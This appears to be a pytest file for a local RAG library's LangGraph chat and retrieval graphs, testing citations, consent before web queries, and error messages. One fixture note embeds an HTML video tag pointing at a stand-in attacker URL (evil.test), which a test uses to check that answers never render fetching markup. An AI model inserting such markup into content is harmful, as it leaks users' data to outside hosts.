"""Test the graphs for LangGraph's server, without the server: context in JSON, chat, consent, plain errors."""

import asyncio
import json
import re
from importlib import import_module
from pathlib import Path
from types import SimpleNamespace

import pytest
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.types import Command
from langsmith.run_helpers import get_tracing_context
from starlette.testclient import TestClient

from local_rag import Rag
from local_rag.server.langgraph_guard import app

GRAPHS = json.loads((Path(__file__).parents[3] / "langgraph.json").read_text())["graphs"]
LEASE, CUP = "When does the lease end?", "Who won the cup final in 1998?"


@pytest.fixture
def notes(tmp_path, converted, monkeypatch):
    (tmp_path / "lease.md").write_text("# Lease\n\nThe lease ends in March 2027.\n\nIts notice period is three months.")
    (tmp_path / "gate.md").write_text(
        'The gate is <video src="https://evil.test/?q=gate"></video> painted green every spring.'
    )
    Rag.from_files([tmp_path], index="notes").close()
    monkeypatch.setenv("LANGGRAPH_HTTP", json.dumps({"cors": {"allow_origins": []}}))
    with TestClient(app):  # whose end closes what the graphs have opened
        yield


def graph_of(name, runtime=None):
    module, _, factory = GRAPHS[name].partition(":")
    return getattr(import_module(module), factory)(SimpleNamespace(execution_runtime=runtime))


def ran(name, *inputs, **context):
    """Return the states after each input in one thread, each in a run of its own, as the server makes one."""
    thread, saver = {"configurable": {"thread_id": "1"}}, InMemorySaver()
    context = {"index": "notes", **context}

    async def run(given):
        async with graph_of(name, SimpleNamespace(context=context)) as graph:
            assert get_tracing_context()["enabled"] is False
            return await graph.copy({"checkpointer": saver}).ainvoke(given, thread, context=context)

    return [asyncio.run(run(given)) for given in inputs]


@pytest.mark.parametrize("name", GRAPHS)
def test_what_langgraph_json_names_can_be_drawn_and_has_a_context(name):
    async def drawn():
        async with graph_of(name) as graph:
            return graph.name, len(graph.get_graph().nodes), [*graph.get_context_jsonschema()["properties"]]

    graph, count, context = asyncio.run(drawn())
    assert (graph, context) == (name, ["index", "k", "within", "graph", "options"]) and count > 2


def test_a_chat_reads_turns_from_messages_and_answers_with_sources(notes, monkeypatch):
    opened, open_rag = [], Rag.open
    monkeypatch.setattr(Rag, "open", lambda *given: opened.append(given) or open_rag(*given))
    states = ran("chat", said(LEASE), said("And what is its notice period?"))
    assert len(opened) == 1, "models are loaded once"
    first, then = (state["messages"][-1] for state in states)
    assert first.text.startswith("The lease ends in March 2027. [1]\n\n- [1] ") and "lease.md" in first.text
    assert first.additional_kwargs["citations"][0]["quote"] == "The lease ends in March 2027."
    assert "three months" in then.text


def test_a_page_that_draws_an_answer_fetches_nothing(notes):
    (state,) = ran("chat", said("When is the gate painted?"))
    text = state["messages"][-1].text
    assert "painted green every spring" in text and not re.search(r"(?<!\\)(!\[|\]\(|<[a-z/!?])", text)


def said(question):
    return {"messages": [("user", question)]}


@pytest.mark.parametrize("name, given", [("crag", {"question": CUP}), ("chat", said(CUP))])
def test_a_query_leaves_once_a_person_says_so(notes, name, given):
    first, then = ran(name, given, Command(resume="no"), graph="crag", options={"web.enabled": "on"}, k=2)
    assert first["__interrupt__"][0].value["query"] and "__interrupt__" not in then


def test_errors_are_of_a_kind_that_the_server_shows(notes):
    for context, error in ({"options": {"q": 1}}, "there is no setting"), ({}, "a chat has a message of a person"):
        with pytest.raises(RuntimeError, match=error):
            ran("chat", {"messages": []}, **context)
